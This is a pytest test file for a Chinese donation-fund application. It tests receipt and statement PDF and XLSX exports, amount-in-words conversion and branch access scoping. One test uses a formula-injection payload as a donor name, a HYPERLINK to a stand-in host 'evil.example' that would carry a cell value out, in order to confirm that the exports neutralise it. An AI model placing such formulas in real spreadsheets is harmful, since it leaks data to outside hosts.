"""Receipt PDFs, fund and donor statements: what the finance officer prints and hands out."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from reportlab.pdfbase import pdfmetrics

from guanhuai.core import pdf
from guanhuai.core.money import amount_in_words
from guanhuai.funds import documents, selectors, services
from guanhuai.funds.tests.factories import donor, fund, give, purpose


@pytest.mark.parametrize(
    ("amount", "words"),
    [
        ("0.07", "柒分"),
        ("10", "壹拾元整"),
        ("100.50", "壹佰元伍角"),
        ("10000", "壹万元整"),
        ("1234567.89", "壹佰贰拾叁万肆仟伍佰陆拾柒元捌角玖分"),
        ("12345.67", "壹万贰仟叁佰肆拾伍元陆角柒分"),
        ("1005", "壹仟零伍元整"),
        ("100100", "壹拾万零壹佰元整"),
        ("1000.05", "壹仟元零伍分"),
        ("20.01", "贰拾元零壹分"),
        ("100000000", "壹亿元整"),
        ("100010000", "壹亿零壹万元整"),
        ("0", "零元整"),
    ],
)
def test_amount_in_chinese_capitals(amount, words):
    assert amount_in_words(Decimal(amount)) == words


def test_amount_in_words_refuses_a_negative_amount():
    with pytest.raises(ValueError):
        amount_in_words(Decimal("-1"))


@pytest.fixture
def gifts(tree, money):
    f = fund(money.manager, tree.province)
    company = donor(money.manager, tree.province, credit_code="91110000600037341L")
    anonymous = donor(money.manager, tree.province, name="王秀英", kind="person", public_name="anonymous")
    return f, company, anonymous


def _font_face_name() -> bytes:
    return pdfmetrics.getFont(pdf.cjk_font()).face.name


def assert_embeds_cjk_font(content: bytes) -> None:
    assert content.startswith(b"%PDF")
    # A TrueType font program embedded in the file (not merely named), subset to the glyphs used.
    assert b"/FontFile2" in content
    assert _font_face_name() in content
    # …and no font that is only named: every glyph prints the same on any machine.
    assert b"/Helvetica" not in content


def test_receipt_pdf_embeds_the_cjk_font_and_names_the_real_donor(gifts, money):
    f, _company, anonymous = gifts
    donation = give(money.finance, f, anonymous, "12345.67", purpose=purpose("bereaved"))
    receipt = donation.receipts.get()

    content = documents.receipt_pdf(receipt)

    assert_embeds_cjk_font(content)
    c = documents.receipt_content(receipt)
    rows = dict(c.rows)
    # 爱心人士 is how the public sees her; her own receipt carries her name.
    assert rows["捐赠人"] == "王秀英"
    assert rows["捐赠金额（小写）"] == "¥12,345.67"
    assert rows["捐赠金额（大写）"] == "人民币壹万贰仟叁佰肆拾伍元陆角柒分"
    assert rows["捐赠方式"] == "银行转账"
    assert rows["受赠基金"] == "生育关怀基金" and rows["指定用途"] == "失独家庭帮扶"
    assert c.issuer == "广东省计划生育协会" and c.issuer_code == "440000"
    assert c.number == receipt.number and not c.voided and not c.reissue_of


def test_in_kind_receipt_lists_goods_and_valuation_basis(gifts, money):
    f, company, _anonymous = gifts
    donation, _created = services.donation_record(
        actor=money.finance,
        donor=company,
        fund=f,
        kind="in_kind",
        amount="3600",
        items="大米",
        quantity="120袋",
        valuation_basis="市场价 30元/袋",
        received_on=dt.date(2025, 3, 5),
    )
    rows = dict(documents.receipt_content(donation.receipts.get()).rows)
    assert rows["捐赠人"] == "爱心企业（统一社会信用代码 91110000600037341L）"
    assert rows["捐赠物资"] == "大米 × 120袋"
    assert rows["估值依据"] == "市场价 30元/袋"
    assert rows["物资估值（大写）"] == "人民币叁仟陆佰元整"
    assert "捐赠方式" not in rows


def test_voided_receipt_is_watermarked_and_its_reissue_names_the_original(gifts, money):
    f, company, _anonymous = gifts
    original = give(money.finance, f, company, "500").receipts.get()
    plain = documents.receipt_pdf(original)

    reissued = services.receipt_reissue(actor=money.finance, receipt=original, reason="原收据遗失")
    original.refresh_from_db()

    voided_pdf = documents.receipt_pdf(original)
    # The 作废 stamp is drawn translucent: a transparency state appears only on the voided receipt.
    assert b"/ca .28" in voided_pdf and b"/ca .28" not in plain
    voided = documents.receipt_content(original)
    assert voided.voided and "补开" in voided.void_reason
    again = documents.receipt_content(reissued)
    assert again.reissue_of == original.number and not again.voided
    assert_embeds_cjk_font(documents.receipt_pdf(reissued))


def test_receipt_pdf_page_is_inline_and_scoped(client, tree, gifts, money):
    f, company, _anonymous = gifts
    receipt = give(money.finance, f, company, "88").receipts.get()
    url = reverse("funds_io:receipt_pdf", args=[receipt.pk])

    client.force_login(money.auditor)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("inline;")
    assert_embeds_cjk_font(response.content)

    # A finance officer of 甲镇 cannot print the province's receipts: the same 404 as a missing one.
    client.force_login(money.town_finance)
    assert client.get(url).status_code == 404
    assert client.get(reverse("funds_io:receipt_pdf", args=[receipt.pk + 1000])).status_code == 404


@pytest.fixture
def busy_fund(tree, money, gifts):
    """A year with cash and in-kind gifts, a transfer in and out, and spending on two purposes."""
    f, company, anonymous = gifts
    other = fund(money.manager, tree.province, name="综合基金")
    give(money.finance, f, company, "1000.00", on=dt.date(2024, 12, 1))
    give(money.finance, f, company, "500.25", on=dt.date(2025, 2, 1))
    give(money.finance, f, anonymous, "250.50", on=dt.date(2025, 2, 3))
    give(money.finance, other, company, "300", on=dt.date(2025, 2, 1))
    services.donation_record(
        actor=money.finance,
        donor=company,
        fund=f,
        kind="in_kind",
        amount="360",
        items="大米",
        quantity="12袋",
        valuation_basis="市场价",
        received_on=dt.date(2025, 2, 2),
    )
    services.transfer_record(
        actor=money.manager, from_fund=other, to_fund=f, amount="100", posted_on=dt.date(2025, 3, 1)
    )
    services.transfer_record(
        actor=money.manager, from_fund=f, to_fund=other, amount="40", posted_on=dt.date(2025, 3, 2)
    )
    for code, name, amount in (
        ("general", "综合帮扶项目", "400"),
        ("youth_health", "青春健康进校园", "120.50"),
    ):
        alloc, _created = services.allocation_create(
            actor=money.manager,
            fund=f,
            purpose=purpose(code),
            target_kind="project",
            target_ref=f"project:{code}",
            name=name,
            amount=amount,
            posted_on=dt.date(2025, 3, 3),
        )
        services.disbursement_record(
            actor=money.finance, allocation=alloc, amount=amount, paid_on=dt.date(2025, 3, 4), payee="某单位"
        )
    return f


def _xlsx_figures(content: bytes) -> dict[str, Decimal]:
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    out = {}
    for label, value, *_rest in ws.iter_rows(values_only=True):
        if isinstance(value, int | float):
            out[str(label).strip("　")] = Decimal(str(value)).quantize(Decimal("0.01"))
    return out


def test_statement_xlsx_figures_equal_the_statement(client, busy_fund, money):
    st = selectors.fund_statement(busy_fund, start=dt.date(2025, 1, 1), end=dt.date(2025, 12, 31))
    assert st.reconciled

    client.force_login(money.auditor)
    response = client.get(
        reverse("funds_io:statement_xlsx", args=[busy_fund.pk]), {"start": "2025-01-01", "end": "2025-12-31"}
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    figures = _xlsx_figures(response.content)
    assert figures == {
        "期初余额": Decimal("1000.00"),
        "本期资金捐赠收入": Decimal("750.75"),
        "本期基金转入": Decimal("100.00"),
        "本期基金转出": Decimal("40.00"),
        "本期支出合计": Decimal("520.50"),
        "其中：综合帮扶": Decimal("400.00"),
        "其中：青春健康": Decimal("120.50"),
        "期末余额": Decimal("1290.25"),
        "期初物资": Decimal("0.00"),
        "本期物资捐赠收入": Decimal("360.00"),
        "本期物资发放": Decimal("0.00"),
        "期末物资": Decimal("360.00"),
    }
    assert figures["期初余额"] == st.opening and figures["期末余额"] == st.closing
    assert figures["本期资金捐赠收入"] == st.cash_donations
    assert figures["本期支出合计"] == st.disbursements
    ws = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert ws["B4"].value == "一致"
    closing_cell = next(row[1] for row in ws.iter_rows() if row[0].value == "期末余额")
    assert closing_cell.number_format == "#,##0.00"


def test_statement_defaults_to_the_current_year_and_pdf_embeds_the_font(client, busy_fund, money):
    client.force_login(money.finance)
    response = client.get(reverse("funds_io:statement_pdf", args=[busy_fund.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert_embeds_cjk_font(response.content)
    year = timezone.localdate().year
    assert f"{year}0101-{year}1231" in response["Content-Disposition"]


def test_statement_with_start_after_end_is_refused_with_a_message(client, busy_fund, money):
    client.force_login(money.finance)
    response = client.get(
        reverse("funds_io:statement_xlsx", args=[busy_fund.pk]), {"start": "2025-12-31", "end": "2025-01-01"}
    )
    assert response.status_code == 400
    assert "开始日期不能晚于结束日期" in response.content.decode()


def test_statements_of_another_branch_are_404(client, busy_fund, money):
    client.force_login(money.town_finance)
    assert client.get(reverse("funds_io:statement_pdf", args=[busy_fund.pk])).status_code == 404
    assert client.get(reverse("funds_io:statement_xlsx", args=[busy_fund.pk])).status_code == 404


def test_donor_statement_lists_gifts_receipts_and_totals_without_reversed_ones(client, gifts, money):
    f, company, _anonymous = gifts
    kept = give(money.finance, f, company, "1200.50", on=dt.date(2025, 1, 5))
    wrong = give(money.finance, f, company, "99", on=dt.date(2025, 1, 6))
    services.donation_reverse(actor=money.manager, donation=wrong, reason="重复登记")

    client.force_login(money.finance)
    response = client.get(reverse("funds_io:donor_statement_xlsx", args=[company.pk]))

    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = [r for r in ws.iter_rows(values_only=True) if any(v is not None for v in r)]
    header = rows.index(tuple(documents.donor_headers()))
    gifts_rows = rows[header + 1 : header + 3]
    assert [(r[4], r[8], r[9]) for r in gifts_rows] == [
        (1200.5, kept.receipts.get().number, "有效"),
        (99, f"{wrong.receipts.get().number}（已作废）", "已冲销"),
    ]
    totals = {r[0]: r[4] for r in rows if r[0] and str(r[0]).endswith("合计（不含已冲销）")}
    assert totals == {"资金捐赠合计（不含已冲销）": 1200.5, "物资捐赠合计（不含已冲销）": 0}

    client.force_login(money.town_finance)
    assert client.get(reverse("funds_io:donor_statement_xlsx", args=[company.pk])).status_code == 404


def test_a_configured_font_that_does_not_exist_is_a_clear_error(settings, tmp_path):
    settings.GUANHUAI_CJK_FONT = str(tmp_path / "nope.ttf")
    with pytest.raises(pdf.FontMissing, match="GUANHUAI_CJK_FONT 指定的字体文件不存在"):
        pdf.font_spec()


def test_no_installed_font_says_what_to_install(settings, monkeypatch):
    settings.GUANHUAI_CJK_FONT = ""
    monkeypatch.delenv("GUANHUAI_CJK_FONT", raising=False)
    monkeypatch.setattr(pdf, "CANDIDATES", (("/nonexistent/font.ttc", 0),))
    with pytest.raises(pdf.FontMissing, match="fonts-wqy-zenhei"):
        pdf.font_spec()


def test_a_donor_or_fund_name_that_is_a_formula_is_text_and_amounts_stay_numbers(client, tree, money):
    hostile = '=HYPERLINK("http://evil.example/?"&B2,"x")'
    f = fund(money.manager, tree.province, name="-1+基金")
    d = donor(money.manager, tree.province, name=hostile, kind="person")
    give(money.finance, f, d, "1200.50", on=dt.date(2025, 1, 5))

    client.force_login(money.finance)
    response = client.get(reverse("funds_io:donor_statement_xlsx", args=[d.pk]))

    ws = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.value for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    assert "'" + hostile in values and "'-1+基金" in values
    assert 1200.5 in values  # the amount is a number, not text

    st = selectors.fund_statement(f, start=dt.date(2025, 1, 1), end=dt.date(2025, 12, 31))
    ws = load_workbook(io.BytesIO(documents.statement_xlsx(st))).worksheets[0]
    assert ws["A1"].value.startswith("'-1+基金") and ws["A1"].data_type == "s"
